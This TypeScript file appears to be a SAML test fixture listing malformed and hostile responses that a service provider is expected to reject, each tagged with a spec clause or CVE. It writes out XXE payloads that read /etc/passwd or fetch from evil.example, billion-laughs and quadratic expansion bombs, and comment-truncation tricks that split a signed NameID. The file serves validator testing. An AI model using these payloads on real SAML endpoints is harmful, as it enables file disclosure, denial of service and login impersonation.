/** What can be wrong with the field and the text in it, before anybody asks what it means. */
import { NAMESPACES } from "../../dev/identity-provider/saml/minting/saml-names.ts";
import { type SamlRow, samlRows } from "./saml-attempt.ts";
import { base64, DISPLAY_NAME, minted, NAME_ID, VICTIM } from "./saml-minting.ts";
import { replaced, replacing, tampered } from "./saml-tampering.ts";

const BASE64 = "SAML Bindings §3.5.4";
const ENCODING = "XML 1.0 §4.3.3";
const CHARACTER = "XML 1.0 §2.2";
const WELL_FORMED = "XML 1.0 §2.1";
const REFERENCE = "XML 1.0 §4.1";
const EXPANSION = "CWE-776";
const TRUNCATION = "CVE-2017-11427";

export const SAML_FIELD_ROWS: readonly SamlRow[] = [
  ...Object.entries({
    "is empty": () => "",
    "holds white space only": () => " \r\n",
    "is XML and no base64": (xml: string) => xml,
    "is base64url": (xml: string) => base64(xml).replaceAll("=", "").concat("_-__"),
    "has lost its last character": (xml: string) => base64(xml).slice(0, -1),
    "holds a character that no base64 has": (xml: string) => `!${base64(xml).slice(1)}`,
    "has padding in its middle": (xml: string) => `QQ==${base64(xml)}`,
    "is percent-encoded twice": (xml: string) => `%2B${base64(xml).slice(3)}`,
    "holds a form feed": (xml: string) => `\f${base64(xml)}`,
  }).map(
    ([fault, field]): SamlRow => ({
      name: `the field ${fault}`,
      clause: BASE64,
      reason: "saml_base64",
      field,
    }),
  ),
  {
    name: "the field is longer than 256 KiB",
    clause: "CWE-400",
    reason: "saml_too_large",
    field: (xml) => base64(xml).padEnd(262_145, "\n"),
  },
  ...Object.entries({
    "is UTF-16 with its mark": (xml: string) => Buffer.from(`\ufeff${xml}`, "utf16le"),
    "begins with the mark of UTF-8": (xml: string) => Buffer.from(`\ufeff${xml}`),
    "is ISO 8859-1": (xml: string) => Buffer.from(replaced(xml, DISPLAY_NAME, "Mar\u00eda"), "latin1"),
    "holds an overlong form": (xml: string) => withBytes(xml, [0xc0, 0xbc]),
    "holds an encoded surrogate": (xml: string) => withBytes(xml, [0xed, 0xa0, 0x80]),
    "is compressed, as in HTTP-Redirect": () => Buffer.from([0xed, 0x5b, 0xdb, 0x6e, 0xe3, 0x36, 0x10, 0xfd]),
  }).map(
    ([fault, bytes]): SamlRow => ({
      name: `the text ${fault}`,
      clause: ENCODING,
      reason: "saml_utf8",
      field: (xml) => base64(bytes(xml)),
    }),
  ),
  {
    name: "the text is UTF-16 without a mark",
    clause: ENCODING,
    reason: "saml_character",
    field: (xml) => base64(Buffer.from(xml, "utf16le")),
  },
];

function withBytes(xml: string, bytes: readonly number[]): Buffer {
  const [before = "", after = ""] = xml.split(NAME_ID);
  return Buffer.concat([Buffer.from(before), Buffer.from(bytes), Buffer.from(after)]);
}

/** In the signed value and after it was signed; canonicalisation leaves out comments, so their digest stays right. */
const markup: readonly (readonly [string, string, SamlRow["reason"], string])[] = [
  ["a comment", "<!-- -->", "saml_markup_declaration", TRUNCATION],
  ["a CDATA section", "<![CDATA[.]]>", "saml_markup_declaration", TRUNCATION],
  ["a processing instruction", "<?p .evil.example?>", "saml_processing_instruction", "XML 1.0 §2.6"],
  ["an entity that nobody declared", "&company;", "saml_entity", REFERENCE],
];

const [HALF_NAME_ID, HALF_GROUP] = ["maria", "treas"];

const markupInValues = markup.flatMap(([thing, text, reason, clause]): SamlRow[] => [
  {
    name: `${thing} splits NameID after it was signed`,
    clause,
    reason,
    response: replacing(`>${HALF_NAME_ID}`, `>${HALF_NAME_ID}${text}`),
  },
  {
    name: `${thing} splits an attribute value after it was signed`,
    clause,
    reason,
    response: replacing(`>${HALF_GROUP}`, `>${HALF_GROUP}${text}`),
  },
]);

/** The signer's parser makes text of an entity it does not know, so that one has no row here. */
const markupBeforeSigning = markup.slice(0, 3).flatMap(([thing, text, reason, clause]): SamlRow[] => [
  {
    name: `${thing} splits NameID before it was signed`,
    clause,
    reason,
    response: minted({ nameId: { xml: `<saml:NameID>admin${text}.evil</saml:NameID>` } }),
  },
  {
    name: `${thing} splits an attribute value before it was signed`,
    clause,
    reason,
    response: minted({
      attributes: [
        { name: "groups", values: [{ xml: `<saml:AttributeValue>treas${text}ury</saml:AttributeValue>` }] },
      ],
    }),
  },
]);

const doctype = (subset: string) => tampered((xml) => `<!DOCTYPE x ${subset}>${xml}`);

export const SAML_MARKUP_ROWS: readonly SamlRow[] = [
  ...markupInValues,
  ...markupBeforeSigning,
  ...samlRows("CWE-611", "saml_markup_declaration", {
    "a DOCTYPE stands before the Response": ["CVE-2025-25291", doctype("[]")],
    "a DOCTYPE stands in the Response": [
      "CVE-2025-25292",
      replacing("<samlp:Status>", "<!DOCTYPE x><samlp:Status>"),
    ],
    "entities are nested (a billion laughs)": [EXPANSION, billionLaughs()],
    "one entity is long and used often (quadratic blow-up)": [
      EXPANSION,
      doctype(`[<!ENTITY a "${"a".repeat(9_999)}">]`),
    ],
    "an entity is external": ["CWE-611", doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]')],
    "an entity is a parameter entity": [
      "CWE-611",
      doctype('[<!ENTITY % x SYSTEM "http://evil.example/"> %x;]'),
    ],
    "the DOCTYPE itself is external": ["CWE-611", doctype('SYSTEM "http://evil.example/x.dtd"')],
    "a DOCTYPE gives ID attributes": [
      "CVE-2025-25292",
      doctype("[<!ATTLIST saml:Assertion ID ID #REQUIRED>]"),
    ],
    "a DOCTYPE has an entity that hides a comment": [
      TRUNCATION,
      tampered(
        (xml) => `<!DOCTYPE x [<!ENTITY c "<!-- -->">]>${replaced(xml, HALF_NAME_ID, `${HALF_NAME_ID}&c;`)}`,
      ),
    ],
  }),
  ...Object.entries({
    "the XML declaration says UTF-16": '<?xml version="1.0" encoding="UTF-16"?>',
    "the XML declaration says version 1.1": '<?xml version="1.1"?>',
    "there are two XML declarations": '<?xml version="1.0"?><?xml version="1.0"?>',
    "a space stands before the XML declaration": ' <?xml version="1.0"?>',
    "a style sheet is named": '<?xml-stylesheet href="http://evil.example/x.xsl"?>',
  }).map(
    ([name, text]): SamlRow => ({
      name,
      clause: "XML 1.0 §2.8",
      reason: "saml_processing_instruction",
      response: tampered((xml) => text + xml),
    }),
  ),
  ...[
    "&#0;",
    "&#x1;",
    "&#xD800;",
    "&#xFFFE;",
    "&#x110000;",
    "&#00000065;",
    "&nbsp;",
    "&",
    "&amp",
    "&#x;",
  ].map(
    (text): SamlRow => ({
      name: `a value holds ${text}`,
      clause: REFERENCE,
      reason: "saml_entity",
      response: replacing(DISPLAY_NAME, `M${text}F`),
    }),
  ),
  ...(["\u0000", "\u0008", "\u000b", "\u001f", "\ufffe", "\uffff"] as const).map(
    (character): SamlRow => ({
      name: `a value holds U+${character.charCodeAt(0).toString(16).padStart(4, "0").toUpperCase()}`,
      clause: CHARACTER,
      reason: "saml_character",
      response: replacing(DISPLAY_NAME, `M${character}F`),
    }),
  ),
];

function billionLaughs() {
  const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`);
  return doctype(`[<!ENTITY l0 "ha">${entities.join("")}]`);
}

const many = (count: number, piece: (at: number) => string) =>
  Array.from({ length: count }, (_, at) => piece(at)).join("");
/** Anything may stand in StatusDetail (SAML Core §3.2.2.4), and nothing signs it here. */
const inDetail = (xml: string) =>
  replacing("</samlp:Status>", `<samlp:StatusDetail>${xml}</samlp:StatusDetail></samlp:Status>`);

export const SAML_XML_ROWS: readonly SamlRow[] = [
  ...samlRows("CWE-770", "saml_xml_limits", {
    "there are 2,000 elements more": inDetail(many(2_000, () => "<x/>")),
    "elements are 41 deep": inDetail(many(39, () => "<x>") + many(39, () => "</x>")),
    "33 prefixes are declared (namespace bomb)": inDetail(
      many(33, (at) => `<p${at}:x xmlns:p${at}="urn:x"/>`),
    ),
    "33 attributes stand in one element": inDetail(`<x${many(33, (at) => ` a${at}=""`)}/>`),
    "there are 8,000 attributes more": inDetail(many(250, () => `<x${many(32, (at) => ` a${at}=""`)}/>`)),
    "one element nests in itself 5,000 times": inDetail(many(5_000, () => "<x>")),
  }),
  ...Object.entries({
    "the text is no XML": () => "SAMLResponse",
    "the text is blank": () => " ",
    "the document ends early": (xml: string) => xml.slice(0, -1),
    "an end tag is another element's": (xml: string) => replaced(xml, "</saml:Issuer>", "</saml:issuer>"),
    "an end tag is missing": (xml: string) => replaced(xml, "</saml:Issuer>", ""),
    "a prefix is bound to nothing": (xml: string) => replaced(xml, "<samlp:Status>", "<samlp:Status a:b=''>"),
    "text stands before the Response": (xml: string) => `x${xml}`,
    "text stands after the Response": (xml: string) => `${xml}x`,
    "an attribute value has no quotes": (xml: string) => replaced(xml, 'Version="2.0"', "Version=2.0"),
    "an attribute value holds <": (xml: string) =>
      replaced(xml, 'Version="2.0"', 'Version="2.0" Consent="<"'),
    "an attribute of the Response stands twice": (xml: string) =>
      replaced(xml, 'Version="2.0"', 'Version="2.0" Version="2.0"'),
  }).map(
    ([name, alter]): SamlRow => ({
      name,
      clause: WELL_FORMED,
      reason: "saml_xml_malformed",
      response: tampered(alter),
    }),
  ),
  {
    name: "there are two Responses, one after the other",
    clause: "CVE-2022-39299",
    reason: "saml_xml_malformed",
    response: tampered((xml) => xml + xml),
  },
  ...samlRows(WELL_FORMED, "saml_xml_malformed", {
    "an end tag too many stands at the end": tampered((xml) => `${xml}</samlp:Response>`),
    "a prefix is bound to no namespace": ["Namespaces in XML §5", inDetail('<x xmlns:a=""/>')],
    "the prefix xml is bound to another namespace": [
      "Namespaces in XML §3",
      inDetail('<x xmlns:xml="urn:x"/>'),
    ],
    "]]> stands in a text": ["XML 1.0 §2.4", inDetail("<x>]]></x>")],
  }),
  ...samlRows("Namespaces in XML §6.3", "saml_xml_malformed", {
    "an attribute stands twice, under two prefixes of one namespace": inDetail(
      '<x xmlns:a="urn:a" xmlns:b="urn:a" a:c="" b:c=""/>',
    ),
    "an attribute stands twice in what is signed, under two prefixes": replacing(
      /(?= xsi:type="xs:string">)/,
      ` xmlns:a="${NAMESPACES.schemaInstance}" a:type="${VICTIM}"`,
    ),
    "a space stands between / and >": ["XML 1.0 §3.1", inDetail("<x/ >")],
  }),
  ...samlRows("XML 1.0 §2.3", "saml_character", {
    "U+2028 stands for a space in a tag": inDetail('<x\u2028a=""/>'),
  }),
];
